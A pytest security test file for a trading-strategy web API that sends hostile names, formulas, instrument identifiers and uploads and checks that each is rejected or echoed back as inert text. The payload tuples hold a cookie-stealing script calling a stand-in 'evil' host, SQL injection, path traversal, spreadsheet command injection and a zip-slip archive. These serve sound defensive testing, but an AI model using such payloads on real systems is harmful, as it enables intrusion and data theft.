"""What is meant to break in is refused, or kept as the text that it is."""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any

import pytest
from starlette.testclient import TestClient
from tests.shared_data import shared

from assay.api.platform import Platform

BTC = "synthetic:BTC/USDT"
NAMES = (
    "<img src=x onerror=alert(1)>",
    "<script>fetch('//evil/'+document.cookie)</script>",
    "../../../../etc/cron.d/x",
    "x'); DROP TABLE strategies;--",
    "{{7*7}} ${7*7} %s %n",
    '"; filename="evil.html',
    "=cmd|' /C calc'!A0",
    "\u202etxt.exe",
)
INSTRUMENTS = ("../../etc/passwd", "a:../../../x", "a:\x00", "a:" + "x" * 199, "con:NUL", "a:b\nc", "ftp:///etc/passwd", ":", "é:x")


def cases(*targets: str) -> list[dict[str, str]]:
    found: list[dict[str, str]] = json.loads(shared("security/malicious_inputs.json").read_text())["cases"]
    return [case for case in found if case["target"] in targets]


def series(client: TestClient, formula: str) -> Any:
    asked = {"instrument": BTC, "timeframe": "1h", "start": "2024-12-30T00:00:00Z", "series": {"x": {"formula": formula}}}
    return client.post("/api/v1/market/series", json=asked)


def test_a_formula_that_breaks_in_is_refused(client: TestClient) -> None:
    for case in cases("formula"):
        answer = series(client, case["input"])
        if case["expected"] == "SAFE_VALUE":
            assert answer.status_code < 500, case
        else:
            assert answer.json()["type"] == "invalid_strategy", case


def test_a_formula_that_means_well_is_computed(client: TestClient) -> None:
    for case in json.loads(shared("security/malicious_inputs.json").read_text())["benign"]:
        assert series(client, case["input"]).status_code == 200, case


def test_a_document_that_breaks_in_is_refused(client: TestClient) -> None:
    for case in cases("strategy_json"):
        answer = client.post("/api/v1/strategies/import", content=case["input"].encode())
        assert (answer.status_code, answer.json()["type"]) == (422, "invalid_strategy"), case


@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_name_comes_back_as_the_text_that_it_is(client: TestClient, platform: Platform, name: str) -> None:
    answer = client.post("/api/v1/strategies", json={"document": {**platform.templates["sma_cross"], "name": name}})
    if answer.status_code == 422:
        assert [error["path"] for error in answer.json()["errors"]] == ["name"]
        return
    made = answer.json()
    assert made["name"] == name
    assert [item["name"] for item in client.get("/api/v1/strategies", params={"search": name}).json()["items"]] == [name]
    exported = client.get(f"/api/v1/strategies/{made['id']}/export")
    assert exported.json()["name"] == name
    assert exported.headers["content-disposition"].count('"') == 2
    assert "/" not in exported.headers["content-disposition"]


@pytest.mark.parametrize("name", INSTRUMENTS)
def test_a_hostile_instrument_is_found_nowhere(client: TestClient, name: str) -> None:
    rows = "\n".join(f"2024-01-01T{hour:02}:00:00Z,1,1,1,1,1" for hour in range(3))
    body = f"date,open,high,low,close,volume\n{rows}".encode()
    where = {"instrument": name, "timeframe": "1h"}
    for answer in (
        client.get("/api/v1/market/bars", params=where),
        client.get("/api/v1/market/quality", params=where),
        client.delete("/api/v1/market/bars", params=where),
    ):
        assert answer.status_code in (404, 422)
    imported = client.post("/api/v1/market/import", params={"instrument": name}, content=body)
    assert imported.status_code in (201, 422)
    if imported.status_code == 201:
        stored = imported.json()["instrument"]
        assert client.get("/api/v1/market/bars", params={"instrument": stored, "timeframe": "1h"}).json()["instrument"] == stored


def test_archives_and_programs_are_no_candles(client: TestClient) -> None:
    slip = io.BytesIO()
    with zipfile.ZipFile(slip, "w") as archive:
        archive.writestr("../../app/main.py", b"0" * 1_000_000)
    for body in (slip.getvalue(), b"\x7fELF" + bytes(200), b"", b"PAR1" + bytes(64), b"\x1f\x8b" + bytes(64), b'{"a": 1}', b"\x00" * 4096):
        answer = client.post("/api/v1/market/import", params={"instrument": "test:X", "filename": "../../x.csv"}, content=body)
        assert (answer.status_code, answer.json()["type"]) == (422, "invalid_data"), body[:8]
        assert "/tmp" not in answer.text


@pytest.mark.parametrize("sort", ["created_at;drop", "name--", "(select 1)", "NAME"])
def test_a_column_that_nobody_offers_cannot_be_sorted_by(client: TestClient, sort: str) -> None:
    assert client.get("/api/v1/strategies", params={"sort": sort}).status_code == 422
